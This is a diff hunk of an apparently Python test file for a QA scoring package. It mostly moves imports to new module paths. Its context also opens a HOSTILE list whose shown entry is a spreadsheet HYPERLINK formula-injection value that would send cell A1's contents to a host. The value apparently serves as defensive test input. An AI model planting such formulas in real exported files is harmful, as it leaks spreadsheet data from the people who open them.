@@ -4,10 +4,11 @@ import csv
 import json
 
 import pytest
+
 from evaluate_qa.files.rows import read_rows
-from space.scoring import batch
-from space.scoring.files import Table, collect, read
-from space.scoring.records import records_of, write
+from evaluate_qa.spaces._shared.scoring import batch
+from evaluate_qa.spaces._shared.scoring.files import Table, collect, read
+from evaluate_qa.spaces._shared.scoring.records import records_of, write
 
 HOSTILE = [
     '=HYPERLINK("http://127.0.0.1:9/?"&A1, "see")',
